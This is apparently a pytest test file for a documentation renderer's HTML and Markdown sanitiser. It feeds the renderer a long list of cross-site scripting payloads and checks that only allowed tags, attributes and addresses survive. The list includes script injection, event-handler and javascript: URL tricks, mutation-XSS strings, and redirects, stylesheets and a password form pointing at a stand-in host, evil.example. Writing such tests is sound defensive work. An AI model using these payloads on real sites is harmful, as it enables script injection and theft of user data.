"""Hostile apps: nothing of what they bring runs, loads anything or breaks the page."""

from __future__ import annotations

import time
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from render.documented import action, document, make_app, words

from soarkit.render.appdocs import html, markdown
from soarkit.render.appdocs.addresses import linkable, links_in
from soarkit.render.appdocs.anchors import Anchors
from soarkit.render.appdocs.sanitising import from_markdown, sanitised
from soarkit.render.appdocs.shaping import Rules, shaped
from soarkit.render.appdocs.tree import fit
from soarkit.render.appdocs.tree import html as written
from soarkit.render.text import printable

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:x onerror\n=\nalert(1)//",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a>',
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    "<math href=javascript:alert(1)>x</math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "<iframe src=javascript:alert(1)>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src=javascript:alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' &#14; JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='jav&#x0A;ascript&colon;alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='https:evil.example' ping='https://evil.example' target=_top>x</a>",
    '<a href="https://x.example/" onclick=alert(1) style="position:fixed;inset:0">x</a>',
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body{background:url(https://evil.example/)}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style='background:url(https://evil.example/)'>x</p>",
    "<td style='text-align:right;background:url(https://evil.example/)'>x",
    "<table background=https://evil.example/><tr><td style='text-align:right;background:url(//evil.example)'>x</table>",
    "<form action=https://evil.example/><input type=password autofocus onfocus=alert(1)><button>x</button></form>",
    "<video src=https://evil.example/ onerror=alert(1)><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<body onload=alert(1)><frameset onload=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<textarea><script>alert(1)</script></textarea><title></title><img src=x onerror=alert(1)></title>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp><plaintext>",
    "<!--><img src=x onerror=alert(1)>--><!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]><?xml-stylesheet href='https://evil.example'?>",
    "</main></body></html><script>alert(1)</script>",
    "</code></td></tr></table></style></script><img src=x onerror=alert(1)>",
    "<img srcset='https://evil.example/x.png 1x' src='https://evil.example/y.png'>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<div id=contents name=top>x</div><a name=cookie id=cookie>x</a><img name=body>",
    "<p is=x-y slot=s part=p accesskey=x contenteditable tabindex=-1>x",
    "\"><img src=x onerror=alert(1)>",
    "'\"`><img src=x onerror=alert(1)>",
    "{{constructor.constructor('alert(1)')()}}${alert(1)}",
    "[x](javascript:alert(1)) ![x](javascript:alert(1)) <javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x][x]",
    "|a|\n|--|\n|<script>alert(1)</script>|",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "\u202e\u2066\x1b[31m\x00<scr\x00ipt>alert(1)</script>\ufdd0",
]  # fmt: skip

_PAGE = set(
    "html head meta title style body nav main header section article picture source details summary dl dt dd div "
    "span".split()
)
_CONTENTS = set(
    "a abbr b blockquote br code em h1 h2 h3 h4 h5 h6 hr i img kbd li mark ol p pre q s samp small strong sub sup "
    "table tbody td th thead tr u ul var wbr".split()
)
_ATTRIBUTES = set(
    "alt aria-label aria-labelledby charset class colspan content data-label href http-equiv id lang media name open "
    "rel rowspan scope src srcset start title".split()
)


def assert_harmless(text: str) -> Any:
    """Only elements, attributes and addresses that a page of ours may have."""
    tree = document(text)
    for one in tree.iter():
        if not isinstance(one.tag, str):
            continue
        assert one.tag in _PAGE | _CONTENTS, one.tag
        assert set(one.attrib) <= _ATTRIBUTES, one.attrib
        for name in ("src", "srcset"):
            assert one.get(name, "data:image/").startswith("data:image/")
        if one.tag == "a" and one.get("href") is not None:
            assert one.get("href").startswith("#") or urlsplit(one.get("href")).scheme in ("http", "https", "mailto")
    assert len(list(tree.iter("style"))) == len(list(tree.iter("main"))) == 1
    assert len(list(tree.iter("meta"))) == 5
    return tree


def hostile_everywhere(folder: Path, text: str, readme: str = "readme.html") -> Any:
    """An app with the text in each place that an app can fill."""
    field = {"data_type": text, "description": text, "default": text, "value_list": [text, {text: text}]}
    declared = action(
        text or "x",
        identifier=text or "x",
        description=text,
        type=text,
        verbose=text,
        undo=text,
        versions=text,
        lock={"enabled": True, "data_path": text},
        render={"type": text, "view": text, "title": text},
        parameters={text: {**field, "contains": [text], "primary": True, "allow_list": True}},
        output=[
            {
                "data_path": text,
                "data_type": text,
                "contains": [text],
                "example_values": [text],
                "column_name": text,
            }
        ],
    )
    places = (
        "description publisher license url product_vendor product_name type min_phantom_version logo_dark logo".split()
    )
    return make_app(
        folder,
        {readme: text},
        name=text if text.strip() else "x",
        app_version=text if text.strip() else "1",
        configuration={text: field},
        actions=[declared],
        python_version=text,
        product_version_regex=text,
        latest_tested_versions=[text],
        contributors=[{"name": text}],
        **dict.fromkeys(places, text),
    )


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
@pytest.mark.parametrize("readme", ["readme.html", "README.md"])
def test_nothing_hostile_survives(tmp_path: Path, text: str, readme: str) -> None:
    app = hostile_everywhere(tmp_path, text, readme)
    assert_harmless(html.page(app))
    shown, pictures = markdown.page(app, "files")
    assert not pictures
    assert_markdown_harmless(shown)


@pytest.mark.parametrize(
    "text",
    ["<b>" * 3000 + "x", "<div>" * 100_000, "<table><tr><td>" * 500, "<ul><li>" * 1900, "<b><p>" * 900, "> " * 50_000],
    ids=["b", "div", "table", "ul", "mixed", "quotation"],
)
def test_deep_nesting_is_no_trouble(text: str) -> None:
    started = time.monotonic()
    for nodes in (sanitised(text), from_markdown(text)):
        shown = written(shaped(nodes, Rules(3, Anchors(), "x-", lambda name: None)))
        assert len(shown) < 10 * len(text)
    assert time.monotonic() - started < 20


def assert_markdown_harmless(shown: str) -> None:
    """What a viewer that sanitises nothing would make of the Markdown page."""
    drawn = MarkdownIt("commonmark", {"html": True}).enable("table").render(shown)
    fragment = document(f"<!DOCTYPE html><html><head><title>x</title></head><body>{drawn}</body></html>")
    for one in fragment.iter():
        if not isinstance(one.tag, str):  # a comment stands between two lists
            assert one.text.strip() == ""
            continue
        assert one.tag in _CONTENTS | {"html", "head", "title", "body"}, one.tag
        assert set(one.attrib) <= {"href", "id", "src", "alt", "start", "class", "style", "title"}
        if one.tag == "code":
            assert set(one.attrib) <= {"class"}
        if one.get("href"):
            assert one.get("href").startswith("#") or urlsplit(one.get("href")).scheme in ("http", "https", "mailto")


_PIECES = st.sampled_from(
    [piece for text in HOSTILE if len(text) < 300 for piece in (text, text[: len(text) // 2], text[len(text) // 2 :])]
    + "<p> </p> <b> <ul> <li> </ul> <table> <tr> <td> <dl> <dd> <h1> <pre> <a_href=#x> <blockquote> &lt; ` * |".split()
)  # fmt: skip


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.one_of(_PIECES, st.text(max_size=8)), max_size=12).map("".join))
def test_any_mixture_is_harmless_and_valid(text: str) -> None:
    for nodes in (sanitised(text), from_markdown(text)):
        shown = written(shaped(nodes, Rules(3, Anchors(), "x-", lambda name: None)))
        tree = document(f"<!DOCTYPE html><html><head><title>x</title></head><body>{shown}</body></html>")
        for one in tree.iter():
            assert one.tag in _CONTENTS | {"html", "head", "title", "body", "span"}
            assert set(one.attrib) <= {"href", "id", "rel", "title", "colspan", "rowspan", "class", "start", "alt"}
        # A browser that reads what was written sees what was meant: nothing moves, nothing closes early.
        assert written(shaped(sanitised(shown), Rules(3, Anchors(), "", lambda name: None))).count(
            "<li>"
        ) == shown.count("<li>")


@settings(max_examples=100, deadline=None)
@given(st.one_of(st.text(max_size=60), st.text("\\|`<&*_[]()#~$!-+.1 a\n", max_size=20)))
def test_any_text_is_shown_as_it_is_in_markdown(text: str) -> None:
    from soarkit.render.appdocs.mdtext import code, starting, table
    from soarkit.render.appdocs.mdtext import text as as_text

    line = MarkdownIt("commonmark", {"html": True})
    shown = line.render(starting(as_text(text)))
    tree = document(f"<!DOCTYPE html><title>x</title><body>{shown}</body>")
    assert {one.tag for one in tree.iter()} <= {"html", "head", "title", "body", "p"}
    drawn = line.enable("table").render(table(["a", "b"], [[as_text(text), code(text)]]))
    rows = list(document(f"<!DOCTYPE html><title>x</title><body>{drawn}</body>").iter("tr"))
    assert len(rows) == 2
    assert [cell.tag for cell in rows[1]] == ["td", "td"]
    assert {one.tag for one in rows[1].iter()} <= {"tr", "td", "code"}
    as_shown = " ".join(fit(printable(text, lines=True)).split())
    assert [words(cell) for cell in rows[1]] == [as_shown, as_shown]


@pytest.mark.parametrize(
    "text",
    [
        "<b></i>" * 100_000,
        "<b><!--</b>-->" * 50_000,
        "<h1>a</h1>" * 20_000,
        "<a name=x>x</a>" * 20_000,
        "http://a.example/" + ")" * 500_000,
        "http://a.example/" + "(].)" * 100_000,
        "[a]: http://a.example/" + "z" * 500_000 + "\n\n" + "[a] " * 100_000,
    ],
    ids=["wrong end", "end in a comment", "headings", "names", "brackets", "pairs", "addresses used often"],
)
def test_large_pages_take_no_long_time(text: str) -> None:
    started = time.monotonic()
    for nodes in (sanitised(text), from_markdown(text)):
        written(shaped(nodes, Rules(3, Anchors(), "x-", lambda name: None)))
    assert time.monotonic() - started < 20


def test_brackets_that_an_address_opens_are_part_of_it() -> None:
    pieces = links_in("(see http://a.example/b_(c)). Or [http://a.example/[d]]).")

    assert [address for _, address in pieces if address] == ["http://a.example/b_(c)", "http://a.example/%5Bd%5D"]


@pytest.mark.parametrize(
    ("given_address", "expected"),
    [
        ("https://example.org", "https://example.org"),
        (" HTTP://a.example:8080/x y?q=<z>#f#g ", "http://a.example:8080/x%20y?q=%3Cz%3E#f%23g"),
        ("mailto:a.b@example.org", "mailto:a.b@example.org"),
        ("https://user:pw@example.org/", None),
        ("https://example.org:99999/", None),
        ("https://<server>/api", None),
        ("javascript:alert(1)", None),
        ("java\nscript:alert(1)", None),
        ("//example.org/x", None),
        ("ftp://example.org", None),
        ("https://example.org/%zz", "https://example.org/%25zz"),
        ("mailto:a@example.org?bcc=x@example.org", None),
    ],
)
def test_which_addresses_are_links(given_address: str, expected: str | None) -> None:
    assert linkable(given_address) == expected
